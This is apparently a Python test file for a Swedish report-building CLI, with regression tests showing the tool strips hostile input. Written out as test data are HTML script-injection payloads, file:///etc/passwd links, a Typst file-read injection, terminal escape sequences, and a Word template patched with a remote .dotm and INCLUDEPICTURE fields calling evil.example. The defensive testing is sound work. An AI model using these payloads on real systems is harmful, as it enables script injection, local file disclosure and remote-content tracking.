            os.close(write_end)
            return proc.returncode, proc.stderr.decode("utf-8", "replace")
        proc = subprocess.run([sys.executable, "-m", "pk_report", *argv], env=full,
                              capture_output=True, timeout=120)
        encoding = "iso-8859-1" if "iso-8859-1" in str(env) else "utf-8"
        return proc.returncode, (proc.stdout + proc.stderr).decode(encoding, "replace")
    from typer.testing import CliRunner

    from pk_report.cli import app

    with (case.platform or nullcontext)():
        result = CliRunner().invoke(app, argv, env=env)
    return result.exit_code, result.output


def _on_terminal(argv: list[str], env: dict) -> tuple[int, str]:
    """Run on a pseudo-terminal, as in a terminal window: what it shows, escapes and all."""
    import pty
    import select

    full = {**os.environ, **{k: v for k, v in env.items() if v is not None}}
    for k in [k for k, v in env.items() if v is None]:
        full.pop(k, None)
    leader, follower = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "pk_report", *argv], env=full,
                            stdin=follower, stdout=follower, stderr=follower)
    os.close(follower)
    chunks = []
    while True:
        ready, _, _ = select.select([leader], [], [], 120)
        if not ready:
            break
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the terminal closed: the process has ended
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    return proc.wait(timeout=120), b"".join(chunks).decode("utf-8", "replace")


def message(output: str, needle: str, tmp: Path) -> str:
    """The message around ``needle``, as one line: from the bullet or 'Fel:' before it to the
    next message; the test's own folder left out of paths."""
    flat = " ".join(output.replace(str(tmp) + os.sep, "").replace(str(tmp), "").split())
    at = flat.find(needle)
    if at < 0:
        return ""
    start = max([0] + [flat.rfind(mark, 0, at + 1) for mark in ("• ", "* ", "Fel: ")])
    after = at + len(needle)
    ends = [e for e in (flat.find(mark, after) for mark in (" • ", " Fel: ", " Ett fel",
                                                           " Inga fel", " Fel (", " Varningar ("))
            if e > 0]
    return flat[start:min(ends, default=len(flat))].strip()


# ---------------------------------------------------------------------------------------------
# Fresh-eyes round (attack-findings 2, 4-10): attacks found by a review of main, beyond
# issue 18's list. Each fails on main (80a46fd) and passes with its fix.

def _course_2009(*names: str):
    """The first 2009 courses named ``names`` (one name each)."""
    def edit(tables):
        rows = tables["kurser"]
        col = rows[0].index("namn")
        for row, name in zip([r for r in rows[1:] if r[0] == "2009"], names):
            row[col] = name
    return edit


def _sample_ods_bytes(tmp: Path) -> bytes:
    import pandas as pd

    path = tmp / "prov.ods"
    with pd.ExcelWriter(path, engine="odf") as writer:
        for name, rows in read_sample().items():
            pd.DataFrame(rows[1:], columns=rows[0]).to_excel(writer, sheet_name=name, index=False)
    data = path.read_bytes()
    path.unlink()
    return data


def ods_with_xlsx_part(tmp):
    """The sample as an .ods plus a junk xl/workbook.xml, named .XLSX: calamine did not know
    the upper-case extension, tried every format and parsed the ODS in this process."""
    import zipfile

    path = tmp / "register.XLSX"
    path.write_bytes(_sample_ods_bytes(tmp))
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/workbook.xml", "x")
        archive.writestr("xl/_rels/workbook.xml.rels", "x")
    return ["validera", "--data", path]


def ods_named_xlsx(tmp):
    path = tmp / "register.xlsx"
    path.write_bytes(_sample_ods_bytes(tmp))
    return ["validera", "--data", path]


def zip_of_neither(tmp):
    import zipfile

    with zipfile.ZipFile(tmp / "register.ods", "w") as archive:
        archive.writestr("annat.xml", "<a/>")
    return ["validera", "--data", tmp / "register.ods"]


def ods_under_hard_limit(tmp):
    path = tmp / "register.ods"
    path.write_bytes(_sample_ods_bytes(tmp))
    return ["validera", "--data", path]


@contextmanager
def hard_limit_2_5_gb():
    """A process whose hard address-space limit is 2.5 GB (a container, systemd's LimitAS,
    ``ulimit -v 2500000``): raising a limit above it fails as the kernel fails it."""
    import resource

    hard = int(2.5 * 1024**3)
    real_get, real_set = resource.getrlimit, resource.setrlimit

    def getrlimit(which):
        return (hard, hard) if which == resource.RLIMIT_AS else real_get(which)

    def setrlimit(which, limits):
        if which == resource.RLIMIT_AS and max(limits) > hard:
            raise ValueError("not allowed to raise maximum limit")
        return real_set(which, limits)

    resource.getrlimit, resource.setrlimit = getrlimit, setrlimit
    try:
        yield
    finally:
        resource.getrlimit, resource.setrlimit = real_get, real_set


def _add_cost(amount: str):
    def edit(tables):
        tables["kostnader"].append(["2009", "", "Konsultarvode", amount])
    return edit


def bengali_amount(tmp):
    return ["validera", "--data", sample(tmp, edit=_add_cost("1\u09ea00000"))]


def fullwidth_year(tmp):
    def edit(tables):
        tables["kostnader"].append(["\uff12\uff10\uff10\uff19", "", "Konsultarvode", "100"])
    return ["validera", "--data", sample(tmp, edit=edit)]


def arabic_grade(tmp):
    def edit(tables):
        rows = tables["utvarderingar"]
        rows[1][rows[0].index("betyg")] = "\u0664"  # ARABIC-INDIC DIGIT FOUR
    return ["validera", "--data", sample(tmp, edit=edit)]


_ESCAPES = "Kurs \x1b]0;TITLE\x07 \x1b[2J \x9b31m \u202e slut"


def stats_escapes(fmt: str):
    def make(tmp):
        args = ["stats", "2009", "--data", sample(tmp, edit=_course_2009(_ESCAPES))]
        return args + (["--format", fmt] if fmt else [])
    make.__name__ = f"stats_escapes_{fmt or 'tabell'}"
    return make


def math_in_chart(tmp):
    return ["build", "2009", "--data", sample(tmp, edit=_course_2009(
        r"Budget $\foo{x}$ kurs", "Potens $x^{2}$")), "-o", tmp / "r.md"]


def math_kept(tmp):
    assert (tmp / "r_diagram").is_dir() and any((tmp / "r_diagram").glob("*.png"))
    assert r"Budget \$\\foo\{x\}\$ kurs" in (tmp / "r.md").read_text(encoding="utf-8")


MARKDOWN_NAMES = ("1986. Kurs", "+ Plus", "Ledarskap x^2^ och H~2~O", "R&amp;D ::: och [^1]",
                  "b) Budget")


def markdown_names(tmp):
    return ["build", "2009", "--data", sample(tmp, edit=_course_2009(*MARKDOWN_NAMES)),
            "-o", tmp / "r.html"]


def markdown_names_are_text(tmp):
    import html as html_module
    import re

    page = (tmp / "r.html").read_text(encoding="utf-8")
    text = html_module.unescape(re.sub(r"<[^>]+>", "", page))
    for name in MARKDOWN_NAMES:
        assert name in text, name
    assert 'start="1986"' not in page and "<sup>" not in page and "<sub>" not in page


def _reference_with_remote_content(tmp: Path) -> Path:
    """The bundled reference.docx with a remote template, an external image and fetching
    fields in the footer (a template shared between municipalities)."""
    import zipfile

    from pk_report.report.own_templates import export_templates

    export_templates(tmp / "mallar", False)
    path = tmp / "mallar" / "reference.docx"
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
            '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            'Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/{type}" Target="{target}" TargetMode="External"/></Relationships>')

    def patch(name, data):
        if name == "word/settings.xml":
            return data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdX"/><w:zoom', 1)
        if name == "word/footer1.xml":
            return data.replace(b"</w:ftr>", b'<w:p><w:fldSimple w:instr="INCLUDEPICTURE '
                                b'&quot;http://evil.example/t.png&quot; \\d"><w:r><w:t>bild'
                                b'</w:t></w:r></w:fldSimple><w:r><w:fldChar w:fldCharType='
                                b'"begin"/></w:r><w:r><w:instrText> INCLUDETEXT "\\\\\\\\evil'
                                b'\\\\x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType'
                                b'="separate"/></w:r><w:r><w:t>text</w:t></w:r><w:r><w:fldChar '
                                b'w:fldCharType="end"/></w:r></w:p></w:ftr>')
        return data

    patch_parts(path, patch)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("word/_rels/settings.xml.rels", rels.format(
            type="attachedTemplate", target="file://evil.example/share/x.dotm"))
        archive.writestr("word/_rels/footer1.xml.rels", rels.format(
            type="image", target="http://evil.example/pixel.png"))
    return tmp / "mallar"


def remote_reference(tmp):
    return ["build", "2009", "--mallar", _reference_with_remote_content(tmp), "-o",
            tmp / "r.docx"]


def nothing_external(tmp):
    import zipfile

    with zipfile.ZipFile(tmp / "r.docx") as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    everything = b"".join(parts.values())
    for word in (b"evil.example", b"attachedTemplate", b"INCLUDEPICTURE", b"INCLUDETEXT"):
        assert word not in everything, word
    footer = next(v for n, v in parts.items() if n.startswith("word/footer"))
    assert b"PAGE" in footer and b"NUMPAGES" in footer and b"bild" in footer


def confusable_names(tmp):
    names = ["Anna Svensson", "Anna \u200bSvensson", "\u0410nna Svensson", "Anna\u00a0Svensson",
             "anna svensson"]
    tables = minimal_tables(
        kurser=[{"ar": 2010, "kurs_id": "k", "namn": "K"}],
        tillfallen=[{"tillfalle_id": "t", "kurs_id": "k", "datum": "2010-03-01"}],
        deltagare=[{"tillfalle_id": "t", "namn": n, "kon": "K", "roll": "ledamot",
                    "organisationstyp": "stadsdel"} for n in names])
    return write_csv_folder(tmp / "d", tables)


def confusable_validera(tmp):
    return ["validera", "--data", confusable_names(tmp)]


def confusable_stats(tmp):
    return ["stats", "2010", "--data", confusable_names(tmp), "--format", "json"]


CASES += [
    Case("en .ods med en extra xl/workbook.xml, med namnet `register.XLSX`", ods_with_xlsx_part,
         1, "både en Excel-arbetsbok"),
    Case("en .ods med namnet `register.xlsx`", ods_named_xlsx, 0, "Inga fel",
         shown="läses som .ods (efter innehållet, inte namnet), i barnprocessen med minnesgräns"),
    Case("en zip som varken är .xlsx eller .ods", zip_of_neither, 1, "content.xml i en .ods"),
    Case(".ods där processens hårda minnesgräns är 2,5 GB (`ulimit -v 2500000`)",
         ods_under_hard_limit, 0, "Inga fel", platform=hard_limit_2_5_gb,
         shown="läses: barnprocessens gräns blir den lägre av 3 GB och den hårda gränsen"),
    Case("belopp med en bengalisk siffra (`1৪00000`, ৪ ser ut som 8)", bengali_amount, 1,
         "BENGALI DIGIT FOUR"),
    Case("år med helbreddssiffror (`２００９`)", fullwidth_year, 1, "FULLWIDTH DIGIT TWO"),
    Case("betyg med en arabisk-indisk siffra (`٤`)", arabic_grade, 1, "ARABIC-INDIC DIGIT FOUR"),
    Case("kursnamn med ESC, BEL, OSC, CSI, C1-CSI och U+202E: `stats --format csv`",
         stats_escapes("csv"), 0, "Kurs ]0;TITLE [2J 31m slut",
         shown="tecknen tas bort, som i rapporten: `Kurs ]0;TITLE [2J 31m  slut`"),
    Case("samma kursnamn: `stats --format json`", stats_escapes("json"), 0,
         "Kurs ]0;TITLE [2J 31m slut", shown="tecknen tas bort, som i rapporten"),
    Case("samma kursnamn: `stats` som tabell", stats_escapes(""), 0,
         "Kurs ]0;TITLE [2J 31m slut", env={"COLUMNS": "250"},
         shown="tecknen tas bort, som i rapporten"),
    Case(r"kursnamn `Budget $\foo{x}$ kurs` och `Potens $x^{2}$` i diagrammen", math_in_chart,
         0, "Skrev", check=math_kept,
         shown="ritas som text, dollartecken och allt (förut exit 70, ”Unknown symbol”)"),
    Case("kursnamn `1986. Kurs`, `+ Plus`, `x^2^`, `H~2~O`, `R&amp;D`, `:::`, `[^1]`, `b) …`",
         markdown_names, 0, "Skrev", check=markdown_names_are_text,
         shown="visas som de är skrivna i alla format, aldrig som lista, upphöjt eller entitet"),
    Case("`reference.docx` med fjärrmall, extern bild och INCLUDEPICTURE/INCLUDETEXT i sidfoten",
         remote_reference, 0, "Skrev", check=nothing_external,
         shown="Word-filen får inget av det: externa relationer utom http/https/mailto-länkar, "
               "attachedTemplate och fält utom PAGE, NUMPAGES, SEQ och TITLE tas bort"),
    Case("”Anna Svensson” fem gånger vid ett tillfälle: kyrilliskt А, ZWSP, NBSP, gemener",
         confusable_validera, 0, "blandar bokstäver från olika skriftsystem"),
    Case("samma fem: samma person två gånger", confusable_validera, 0,
         "Samma person står redan på rad 2"),
    Case("samma fem: `stats --format json`", confusable_stats, 0, '"unika_personer": 2',
         shown="två personer: Anna Svensson (fyra stavningar) och namnet med kyrilliskt А"),
]


# --- secdoc (issue 18 points 1-3, 9-13): the clerk's text in documents, chart files ----------
# Kept as one block at the end, apart from the cases above, so that branches merge easily.

SCRIPT_TEXT = ("[Fokus]{onfocus=\"document.title='PWNED'\" autofocus=\"\"} och "
               "[Mus]{onmouseover=\"alert(1)\" style=\"position:fixed;width:100%\"}; "
               "[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=) "
               "[c](vbscript:msgbox(1)) [d](file:///etc/passwd) [webb](https://example.org/)")
ORDINARY_TEXT = ("Kontakt @goteborgsstad, Workshop @Kulturhuset [@rapport, s. 3], $x^2$ och "
                 "[ett avsnitt som saknas](#saknas). 😀 漢字 Ωμέγα\n\n#\n\n"
                 + "\n".join("    " * i + f"- nivå {i}" for i in range(100))
                 + "\n\n" + ">" * 300 + " citat"
                 + "\n\n```\nalign(center)[#table(\n  columns: (1fr,),\n```")


def with_text(text: str, course: str = ""):
    def edit(tables):
        header = tables["texter"][0]
        tables["texter"].append([{"ar": "2009", "avsnitt": "inledning", "text": text}.get(c, "")
                                 for c in header])
        if course:  # the first course given in 2009
            rows = tables["kurser"]
            row = next(r for r in rows[1:] if r[0] == "2009")
            row[rows[0].index("namn")] = course
    return edit


def report_with(text: str, suffix: str, course: str = ""):
    def make(tmp):
        return ["build", "2009", "--data", sample(tmp, edit=with_text(text, course)),
                "-o", tmp / f"r.{suffix}"]
    return make


def no_script_in_html(tmp):
    import re

    html = (tmp / "r.html").read_text(encoding="utf-8")
    body = html[html.index("<body"):]
    assert not re.search(r"\son\w+\s*=", body) and "position:fixed" not in body
    hrefs = re.findall(r'href="([^"]*)"', body)
    assert [h for h in hrefs if not h.startswith("#")] == ["https://example.org/"]
    ids = set(re.findall(r'\sid="([^"]*)"', body))  # the table of contents' links resolve
    assert all(h[1:] in ids for h in hrefs if h.startswith("#"))
    assert "script-src 'none'" in html[:html.index("<body")]


def web_links_only_in_docx(tmp):
    import zipfile

    with zipfile.ZipFile(tmp / "r.docx") as z:
        rels = z.read("word/_rels/document.xml.rels").decode("utf-8")
    import re

    assert re.findall(r'Target="([^"]*)" TargetMode="External"', rels) == ["https://example.org/"]


def pdf_uris(path: Path) -> list[str]:
    from pypdf import PdfReader

    return [str(a.get_object()["/A"]["/URI"]) for page in PdfReader(path).pages
            for a in page.get("/Annots") or [] if "/URI" in a.get_object().get("/A", {})]


def web_links_only_in_pdf(tmp):
    assert pdf_uris(tmp / "r.pdf") == ["https://example.org/"]


def width_attack(tmp):
    text = '![Diagram](diagram/betyg_per_kurs.png){width="50%);#read(\\"/etc/passwd\\")//"}'
    return ["build", "2009", "--data", sample(tmp, edit=with_text(text)), "-o", tmp / "r.pdf"]


def no_file_in_pdf(tmp):
    from pypdf import PdfReader

    text = " ".join(p.extract_text() for p in PdfReader(tmp / "r.pdf").pages)
    assert "root:" not in text


def ordinary_in_pdf(tmp):
    from pypdf import PdfReader

    text = " ".join(p.extract_text() for p in PdfReader(tmp / "r.pdf").pages)
    text = "".join(text.replace("\u00ad", "").split())  # soft hyphens at line ends joined
    for words in ("@goteborgsstad", "[@rapport,s.3]", "$x^2$", "Budget$100$kurs", "nivå99",
                  "Ωμέγα", "ettavsnittsomsaknas"):
        assert words in text, words


def own_typst(body: str):
    def make(tmp):
        folder = tmp / "mallar"
        folder.mkdir()
        (folder / "rapport.typ").write_text(body + "\n$body$\n", encoding="utf-8")
        return ["build", "2009", "--mallar", folder, "-o", tmp / "r.pdf"]
    return make


@contextmanager
def short_time_limit():
    from pk_report.report import typst_run

    saved = typst_run.TIME_LIMIT
    typst_run.TIME_LIMIT = 3
    try:
        yield
    finally:
        typst_run.TIME_LIMIT = saved


def similar_course_ids(tmp):
    styles = {"s 4": ["Producer"] * 6 + ["Relator"] * 6,
              "s_4": ["Motivator"] * 6 + ["Processor"] * 6}
    tables = minimal_tables(
        kurser=[{"ar": 2009, "kurs_id": k, "namn": f"Kurs {k}"} for k in styles],
        tillfallen=[{"tillfalle_id": f"{k}-1", "kurs_id": k, "datum": "2009-03-01"}
                    for k in styles],
        deltagare=[{"tillfalle_id": f"{k}-1", "namn": f"{k} {i}"} for k in styles
                   for i in range(12)],
        idi=[{"tillfalle_id": f"{k}-1", "stil": s} for k, ss in styles.items() for s in ss])
    return ["build", "2009", "--data", write_csv_folder(tmp / "data", tables), "-o", tmp / "r.md"]


def two_idi_files(tmp):
    files = sorted(p.name for p in (tmp / "r_diagram").glob("idi_*.png"))
    assert len(files) == 2 and len({(tmp / "r_diagram" / f).read_bytes() for f in files}) == 2
    text = (tmp / "r.md").read_text(encoding="utf-8")
    assert all(f in text for f in files), files


def charts_into_data(tmp):
    data = sample(tmp)
    renamed = data.parent / "r_diagram"
    data.rename(renamed)
    return ["build", "2009", "--data", renamed, "-o", tmp / "r.md"]


def data_untouched(tmp):
    assert not list((tmp / "r_diagram").glob("*.png")) and not (tmp / "r.md").exists()


CASES += [
    Case("skript i texter: `[x]{onfocus=… autofocus}`, `style=`, länkar till `javascript:`, "
         "`data:`, `vbscript:`, `file:` (HTML)", report_with(SCRIPT_TEXT, "html"), 0, "",
         check=no_script_in_html,
         shown="attributen tas bort och länkarna blir text; bara https-länken finns kvar; sidan "
               "har en Content-Security-Policy som förbjuder skript (prövat i Chromium)"),
    Case("samma länkar i Word", report_with(SCRIPT_TEXT, "docx"), 0, "",
         check=web_links_only_in_docx, shown="dokumentets enda externa relation är https-länken"),
    Case("samma länkar i PDF", report_with(SCRIPT_TEXT, "pdf"), 0, "", check=web_links_only_in_pdf,
         shown="PDF-filens enda /URI-åtgärd är https-länken"),
    Case("Typst-kod i en bildbredd (`{width=\"50%);#read(…)//\"}` på ett av diagrammens namn)",
         width_attack, 0, "", check=no_file_in_pdf,
         shown="bredden är ingen längd och tas bort; ingen fil läses"),
    Case("egen rapport.typ med en slinga på 300 miljoner steg", own_typst(
        "#for i in range(300000000) { }"), 1, "blev inte klar", platform=short_time_limit),
    Case("egen rapport.typ som hämtar ett paket (`#import \"@preview/…\"`)", own_typst(
        '#import "@preview/cetz:0.3.0": canvas'), 1, "hämtar inga paket"),
    Case("vanlig text i PDF: `@goteborgsstad`, `[@rapport, s. 3]`, `$x^2$`, `Budget $100$ kurs`, "
         "länk till ett ankare som saknas, tom rubrik, emoji, CJK, lista i hundra nivåer, citat i "
         "trehundra nivåer, kodblock "
         "med `table(columns:`", report_with(ORDINARY_TEXT, "pdf", "Budget $100$ kurs"), 0, "",
         check=ordinary_in_pdf,
         shown="PDF-filen skapas, som Word- och HTML-filen; texten står som den skrevs (listor "
               "och citat djupare än åtta nivåer förlorar sin ram, i alla format; tecken som "
               "inget medföljande typsnitt har, t.ex. kinesiska, visas i PDF-filen som en ruta "
               "med skriftens namn)"),
    Case("kurs_id `s 4` och `s_4` med var sin IDI-profil", similar_course_ids, 0, "",
         check=two_idi_files, shown="två diagramfiler (namnet slutar med en kort hash av id:t)"),
    Case("diagrammappen `r_diagram` är datamappen (`--data r_diagram -o r.md`)",
         charts_into_data, 2, "Diagrammen till", check=data_untouched),
]
